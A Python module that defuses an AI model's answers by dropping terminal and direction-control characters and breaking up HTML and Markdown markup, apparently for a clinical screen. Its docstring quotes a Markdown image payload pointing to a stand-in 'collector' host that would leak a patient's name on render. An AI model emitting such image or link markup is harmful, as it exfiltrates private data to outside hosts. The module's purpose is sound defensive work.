r"""Take from an answer from outside what acts on whoever looks at it, and leave every word.

A managed model, or whoever speaks for it, must not drive a terminal, turn the reading direction, or have a page load
an address: ``![](//collector/?q=NAME)`` sends the patient's own name away the moment a browser draws the answer, and
addresses can be written in more ways than any list of them knows.  So nothing is recognised here.  Control characters
are dropped, and a blank is put where markup would begin, as HTML (``<b``) and CommonMark (``](``, ``]:``) define it;
after that no reader finds a tag, a link or an image.  A blank changes no number, unit or sign.
"""

import re
from typing import Final

_STEERING: Final = dict.fromkeys(
    (
        *(code for code in range(0x20) if chr(code) not in "\t\n"),
        *range(0x7F, 0xA0),
        *range(0x202A, 0x202F),
        *range(0x2066, 0x206A),
        *range(0xE0000, 0xE0080),
    )
)
"""Controls (ECMA-48, among them ESC), direction overrides and invisible tags: no clinical text needs them."""

_BEGINS: Final = re.compile(r"(?<=<)(?=[A-Za-z/!?])|(?<=\])(?=[(:])")
"""Where a tag, a link's target or its definition would begin (HTML 13.2.5.6; CommonMark 0.31, 4.7 and 6.3)."""


def unsteered(text: str) -> str:
    """Return a text without what steers a terminal or a reader."""
    return text.translate(_STEERING)


class Defuser:
    """Break up the markup of one answer, however it is cut into pieces; owned by its screen."""

    def __init__(self) -> None:
        """Begin before the first character."""
        self._last = ""

    def feed(self, text: str) -> str:
        """Return the next piece, in which no markup begins."""
        if not text:
            return ""
        broken = _BEGINS.sub(" ", self._last + text)[len(self._last) :]
        self._last = text[-1]
        return broken
